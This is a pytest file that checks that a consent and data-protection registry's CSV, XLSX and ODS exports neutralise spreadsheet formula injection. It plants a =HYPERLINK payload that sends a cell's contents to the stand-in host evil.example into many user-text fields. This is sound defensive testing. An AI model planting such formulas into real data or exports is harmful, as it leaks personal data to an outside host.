"""No export writes a formula: text planted as ``=HYPERLINK(...)`` in every user-text field
comes out of every CSV, XLSX and ODS file as text (org/spreadsheets.py)."""

import csv
import io
import re
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from django.utils import timezone

from consent.brokers import export_for_broker
from consent.models import Route
from consent.objections import record_objection
from org.models import Organisation
from prospects.models import InteractionType
from prospects.timeline import add_note, record_interaction
from registry.breaches import BreachReport, record_breach
from registry.exports import BREACH_FORMATS, export_breaches, export_register
from registry.subject_access import export_subject_data
from tests import factories

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
STARTS = ("=", "+", "-", "@")


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells_of_xlsx(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.coordinate
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _formula_cells_of_ods(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("content.xml").decode()
    return re.findall(r'table:formula="[^"]*"', body)


def _assert_no_formula(fmt: str, content: bytes | str) -> None:
    if fmt == "csv":
        text = content.decode() if isinstance(content, bytes) else content
        cells = _csv_cells(text)
        assert any(PLANTED in cell for cell in cells), "the planted text is not in the file"
        assert not [cell for cell in cells if cell.startswith(STARTS)]
    else:
        formulas = _formula_cells_of_xlsx(content) if fmt == "xlsx" else _formula_cells_of_ods(content)
        assert not formulas
        assert "'" + PLANTED in _sheet_text(fmt, content)


def _plant_organisation() -> None:
    organisation = Organisation.objects.current()
    for field in ("name", "address", "legal_representative", "dpo_name", "transfers"):
        setattr(organisation, field, PLANTED)
    organisation.save()
    # A transfer's line starts with the processor's name: a cell of its own in the register.
    organisation.processors.create(
        role="hosting", name=PLANTED, country="US", safeguard="scc", documentation=PLANTED
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_the_register_writes_no_formula(fmt):
    _plant_organisation()

    export = export_register(fmt)

    _assert_no_formula(fmt, export.content)


@pytest.mark.parametrize("fmt", [fmt for fmt in BREACH_FORMATS if fmt in ("csv", "xlsx")])
def test_the_breach_register_writes_no_formula(fmt, dpo):
    discovered = timezone.now() - timedelta(days=2)
    record_breach(
        BreachReport(
            discovered_at=discovered,
            nature=PLANTED,
            data_concerned=PLANTED,
            people_concerned=PLANTED,
            people_count=3,
            consequences=PLANTED,
            measures=PLANTED,
            cnil_notified_at=discovered + timedelta(hours=20),
        ),
        by=dpo,
    )

    export = export_breaches(fmt)

    _assert_no_formula(fmt, export.content)


def test_the_subject_access_copy_writes_no_formula(rep, admin_user):
    person = factories.prospect(
        by=rep,
        first_name=PLANTED,
        last_name="+" + PLANTED,
        job_title="@" + PLANTED,
        company_name=PLANTED,
        email="planted@acme.example",
    )
    add_note(person, text=PLANTED, by=rep)
    record_interaction(person, type=InteractionType.EMAIL_REPLY, summary="-" + PLANTED, by=rep)

    package = export_subject_data(person, by=admin_user)

    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        data = archive.read("data.csv").decode()
    _assert_no_formula("csv", data)


def test_the_broker_export_writes_no_formula(rep, admin_user):
    person = factories.prospect(
        by=rep,
        source_type="broker",
        evidence=factories.EVIDENCE["broker"] | {"contract_ref": PLANTED, "list_id": PLANTED},
    )
    record_objection(person, via=Route.LINK)
    broker = factories.EVIDENCE["broker"]["broker"]

    _export, text = export_for_broker(broker, by=admin_user)

    _assert_no_formula("csv", text)


def _sheet_text(fmt: str, content: bytes) -> str:
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("content.xml").decode().replace("&quot;", '"').replace("&amp;", "&")
